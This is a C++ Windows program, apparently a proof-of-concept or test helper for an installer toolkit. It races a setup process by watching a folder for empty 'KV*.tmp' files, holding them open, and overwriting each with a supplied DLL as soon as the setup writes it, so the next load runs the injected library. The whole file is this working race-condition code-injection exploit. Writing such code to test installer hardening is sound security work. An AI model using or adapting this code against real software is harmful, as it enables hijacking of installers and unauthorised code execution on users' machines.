// swap_library FOLDER DLL SECONDS
// Another process of the same user racing the setup: for SECONDS it looks
// for "KV" files in FOLDER and in the folders inside it, opens for writing
// every one it can while it is still empty (about to be written), and the
// moment the setup has written it, writes the bytes of DLL over its start and
// lets go, so that whatever loads the file next loads DLL instead.
#include "lib/win32.h"

#include <fstream>
#include <iterator>
#include <set>
#include <string>
#include <vector>

namespace {

using setupkit::FindHandle;
using setupkit::UniqueHandle;

template <typename Visit> void ForEachMatch(const std::string& pattern, Visit visit) {
    WIN32_FIND_DATAA found;
    FindHandle find(::FindFirstFileA(pattern.c_str(), &found));
    if (!find)
        return;
    do {
        visit(found);
    } while (::FindNextFileA(find.Get(), &found));
}

// The empty "KV" files: those about to be written. A file already written is
// not opened at all, so that the setup's own opening of it is never refused.
std::vector<std::string> FilesToSwap(const std::string& folder) {
    std::vector<std::string> files;
    const auto addFiles = [&](const std::string& in) {
        ForEachMatch(in + "\\KV*.tmp", [&](const WIN32_FIND_DATAA& found) {
            if (!(found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) && found.nFileSizeLow == 0)
                files.push_back(in + "\\" + found.cFileName);
        });
    };
    addFiles(folder);
    ForEachMatch(folder + "\\*", [&](const WIN32_FIND_DATAA& found) {
        const std::string name = found.cFileName;
        if ((found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) && name != "." && name != "..")
            addFiles(folder + "\\" + name);
    });
    return files;
}

} // namespace

int main(int argc, char** argv) {
    if (argc != 4)
        return 2;
    const std::string folder = argv[1];
    std::ifstream in(argv[2], std::ios::binary);
    const std::string dll((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    const DWORD end = ::GetTickCount() + std::stoul(argv[3]) * 1000;

    std::set<std::string> seen;
    while (::GetTickCount() < end) {
        std::vector<UniqueHandle> held;
        for (const std::string& path : FilesToSwap(folder)) {
            UniqueHandle file(::CreateFileA(path.c_str(), GENERIC_WRITE,
                                            FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
                                            nullptr, OPEN_EXISTING, 0, nullptr));
            // Written between the look and the opening: the setup is done with
            // it and may load it now, so it is left as it is.
            if (file && seen.insert(path).second && ::GetFileSize(file.Get(), nullptr) == 0)
                held.push_back(std::move(file));
        }
        // Waits for each held file to be written, in a tight loop: the
        // setup loads it right after.
        for (UniqueHandle& file : held) {
            while (::GetFileSize(file.Get(), nullptr) == 0 && ::GetTickCount() < end) {
            }
            DWORD written = 0;
            ::WriteFile(file.Get(), dll.data(), static_cast<DWORD>(dll.size()), &written, nullptr);
            file.Reset();
        }
    }
    return 0;
}
